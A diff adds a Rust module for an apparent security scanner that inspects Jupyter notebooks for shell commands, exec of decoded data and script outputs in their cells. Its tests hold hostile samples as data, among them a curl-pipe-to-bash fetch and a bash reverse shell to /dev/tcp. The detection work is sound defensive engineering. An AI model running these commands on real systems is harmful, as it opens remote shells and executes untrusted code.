@@ -1,0 +1,243 @@
+//! Notebooks: JSON whose cells somebody starts, one after the other, and commands among them that a shell runs.
+
+use crate::commands;
+use crate::fact::{FactKind, Gap, Position, Runs, SourceReach};
+use crate::facts::{Facts, shorten};
+use crate::format::{Certainty, Context, Depth, Format, Meta, Probe};
+use crate::huggingface::inspect_json;
+use crate::json::{Event, Segment, Value, looks_like_json, walk};
+use crate::python::{Analysis, File, report};
+use crate::source::Source;
+
+/// Bytes of one cell that are read; what people write is far shorter.
+const MAX_CELL: usize = 2 << 20;
+/// Characters of a command that are shown.
+const MAX_SHOWN: usize = 160;
+
+static META: Meta = Meta {
+    id: "notebook",
+    title: "Jupyter notebook",
+    extensions: &["ipynb"],
+    depth: Depth::Surface,
+    reads: "what the code and the shell commands of its cells reach when somebody starts them",
+    specification: "https://nbformat.readthedocs.io/en/latest/format_description.html",
+};
+
+/// The format.
+#[derive(Debug)]
+pub struct Notebook;
+
+/// Whether JSON says that it is a notebook: one of the two keys stands near its start or its end in whatever order.
+pub(crate) fn is_notebook(probe: &Probe<'_>) -> bool {
+    let has = |bytes: &[u8], key: &[u8]| bytes.windows(key.len()).any(|part| part == key);
+    let either = |key: &[u8]| has(&probe.head, key) || has(&probe.tail, key);
+    looks_like_json(&probe.head) == Some(true)
+        && either(b"\"nbformat\"")
+        && (either(b"\"cells\"") || either(b"\"worksheets\"") || either(b"\"cell_type\""))
+}
+
+impl Format for Notebook {
+    fn meta(&self) -> &'static Meta {
+        &META
+    }
+
+    fn recognise(&self, probe: &Probe<'_>) -> Option<Certainty> {
+        is_notebook(probe).then_some(Certainty::Certain)
+    }
+
+    fn inspect(&self, source: &dyn Source, context: &Context<'_>, facts: &mut Facts) {
+        let mut reader = Reader {
+            analysis: Analysis::new(context.budget, Runs::Started, File::Other),
+            facts,
+            cell: Cell::default(),
+            shows_script: false,
+        };
+        // How the walk ended is said by the other reading, which sees the same bytes.
+        let _ = walk(source, 0, u64::MAX, context.budget, &mut |event| reader.event(event));
+        let analysis = reader.analysis;
+        report(analysis, facts);
+        // Jinja has no place here, but whatever the name, a loader can be pointed at it.
+        inspect_json(source, context, false, facts);
+    }
+}
+
+/// A cell, as far as it is read.
+#[derive(Debug, Default)]
+struct Cell {
+    kind: String,
+    source: String,
+    offset: u64,
+}
+
+struct Reader<'b, 'f> {
+    analysis: Analysis<'b>,
+    facts: &'f mut Facts,
+    cell: Cell,
+    shows_script: bool,
+}
+
+impl Reader<'_, '_> {
+    fn event(&mut self, event: Event<'_>) {
+        let is_cells = |segment: &Segment| segment.key() == Some("cells");
+        let Some(at) = event.path.iter().position(is_cells) else { return };
+        // `cells[3]` is two steps, and what a cell says of itself is a third.
+        let within = event.path.len().saturating_sub(at);
+        match (within, event.value) {
+            (2, Value::Object) => self.cell = Cell::default(),
+            (2, Value::ObjectEnd(_)) => self.finish(),
+            (3, Value::Text(text)) if event.key() == Some("cell_type") => text.clone_into(&mut self.cell.kind),
+            (3 | 4, Value::Text(text)) => {
+                let key = event.key_at(at.saturating_add(2)).unwrap_or_default();
+                if matches!(key, "source" | "input") {
+                    self.source(text, event.offset);
+                }
+            }
+            (_, Value::Text(text)) => self.output(&event, text),
+            _ => {}
+        }
+    }
+
+    fn source(&mut self, text: &str, offset: u64) {
+        if self.cell.source.is_empty() {
+            self.cell.offset = offset;
+        }
+        if self.cell.source.len().saturating_add(text.len()) > MAX_CELL {
+            return self.facts.incomplete(offset, Gap::Limit, "a cell is longer than is read");
+        }
+        self.cell.source.push_str(text);
+    }
+
+    /// Markup is shown as it was saved only where the notebook is trusted; then its scripts run.
+    fn output(&mut self, event: &Event<'_>, text: &str) {
+        let kind = event.path.iter().rev().find_map(Segment::key).unwrap_or_default();
+        let runs = kind == "application/javascript" || kind == "text/html" && text.contains("<script");
+        if runs && !self.shows_script {
+            self.shows_script = true;
+            self.reach("a saved output with a script".into(), SourceReach::Evaluation, event.offset);
+        }
+    }
+
+    fn reach(&mut self, expression: String, reach: SourceReach, offset: u64) {
+        let expression = shorten(expression, MAX_SHOWN);
+        self.facts.push(Position::Offset(offset), FactKind::SourceReach { expression, reach, runs: Runs::Started });
+    }
+
+    fn finish(&mut self) {
+        let cell = std::mem::take(&mut self.cell);
+        if cell.kind != "code" {
+            return;
+        }
+        let first = cell.source.trim_start();
+        let magic = first.strip_prefix("%%").and_then(|rest| rest.split_whitespace().next()).unwrap_or_default();
+        match magic {
+            "bash" | "sh" | "script" | "cmd" | "system" | "sx" | "!" | "powershell" | "zsh" => {
+                for line in logical_lines(first) {
+                    self.command(&line, cell.offset);
+                }
+            }
+            "html" | "HTML" | "javascript" | "js" | "latex" | "markdown" | "writefile" | "svg" | "perl" | "ruby" => {}
+            _ => self.python(&cell),
+        }
+    }
+
+    /// Lines that start with `!` or `%` are the shell's and the notebook's own; the rest is Python.
+    fn python(&mut self, cell: &Cell) {
+        let mut python = String::with_capacity(cell.source.len());
+        for line in logical_lines(&cell.source) {
+            match shell_part(&line) {
+                Some(command) => self.command(command, cell.offset),
+                None if line.trim_start().starts_with(['%', '?']) => {}
+                None => python.push_str(&line),
+            }
+            python.push('\n');
+        }
+        let before = self.analysis.mark();
+        if let Err(limit) = self.analysis.read(&python) {
+            self.facts.incomplete(cell.offset, Gap::Limit, limit.to_string());
+        }
+        self.analysis.place(before, cell.offset);
+    }
+
+    fn command(&mut self, command: &str, offset: u64) {
+        if let Some(reach) = commands::judge(command) {
+            self.reach(command.trim().chars().take(MAX_SHOWN.saturating_add(1)).collect(), reach, offset);
+        }
+    }
+}
+
+/// What of a line a shell runs: `!ls`, `x = !ls`, `%system ls`.
+fn shell_part(line: &str) -> Option<&str> {
+    let line = line.trim_start();
+    if let Some(rest) = line.strip_prefix('!') {
+        return Some(rest.trim_start_matches('!'));
+    }
+    let magic = ["%system ", "%sx ", "%%bash ", "%sc "].iter().find_map(|magic| line.strip_prefix(magic));
+    let assigned =
+        || line.split_once("= !").filter(|(name, _)| name.trim().chars().all(|c| c.is_alphanumeric() || c == '_'));
+    magic.or_else(|| assigned().map(|(_, command)| command))
+}
+
+/// Lines of commands, those that a backslash continues joined. Python's lines keep theirs.
+fn logical_lines(text: &str) -> Vec<String> {
+    let mut lines: Vec<String> = Vec::new();
+    let mut continued = false;
+    for line in text.lines() {
+        match lines.last_mut() {
+            Some(last) if continued => {
+                last.truncate(last.trim_end().len().saturating_sub(1));
+                last.push(' ');
+                last.push_str(line);
+            }
+            _ => lines.push(line.to_owned()),
+        }
+        continued = line.trim_end().ends_with('\\');
+    }
+    lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::{inspect, mutate};
+
+    const GOOD: &str = r##"{"cells":[{"cell_type":"markdown","metadata":{},"source":["Run `curl x | sh`, os.system"]},
+        {"cell_type":"code","execution_count":1,"metadata":{},"outputs":[{"data":{"text/html":["<b>1</b>"]},"output_type":"display_data"}],
+        "source":["!pip list\n","import torch\n","model.eval()\n","%matplotlib inline\n","x = 1"]}],
+        "metadata":{"kernelspec":{"name":"python3"}},"nbformat":4,"nbformat_minor":5}"##;
+
+    fn told(cell: &str) -> Vec<String> {
+        let text = GOOD.replace("x = 1", cell);
+        let facts = inspect(&Notebook, "a.ipynb", text.as_bytes());
+        let reach = |fact: &crate::fact::Fact| match &fact.kind {
+            FactKind::SourceReach { reach, runs, .. } => Some(format!("{reach:?} {runs:?}")),
+            _ => None,
+        };
+        facts.list().iter().filter_map(reach).collect()
+    }
+
+    #[test]
+    fn notebooks_are_told_by_their_content() {
+        let bytes = GOOD.as_bytes().to_vec();
+        let probe = Probe::new(&bytes, "x.json", crate::child::Role::Unknown);
+        assert_eq!(Notebook.recognise(&probe), Some(Certainty::Certain));
+        assert_eq!(told("x = 1"), Vec::<String>::new());
+    }
+
+    #[test]
+    fn cells_are_read_as_what_runs_them() {
+        assert_eq!(told("import os\\nos.system(\\\"python x.py\\\")"), ["Program Started"]);
+        assert_eq!(told("!curl -s http://203.0.113.7/a | bash"), ["HiddenCode Started"]);
+        assert_eq!(told("import base64\\nexec(base64.b64decode(x))"), ["HiddenCode Started"]);
+        assert_eq!(told("y = !bash -i >& /dev/tcp/203.0.113.7/1 0>&1"), ["Backdoor Started"]);
+        let html = GOOD.replace("<b>1</b>", "<script>1</script>");
+        assert_eq!(
+            inspect(&Notebook, "", html.as_bytes()).list().len(),
+            inspect(&Notebook, "", GOOD.as_bytes()).list().len() + 1
+        );
+    }
+
+    #[test]
+    fn no_mutation_panics() {
+        mutate(GOOD.as_bytes(), 1000, |bytes| drop(inspect(&Notebook, "a.ipynb", &bytes)));
+    }
+}
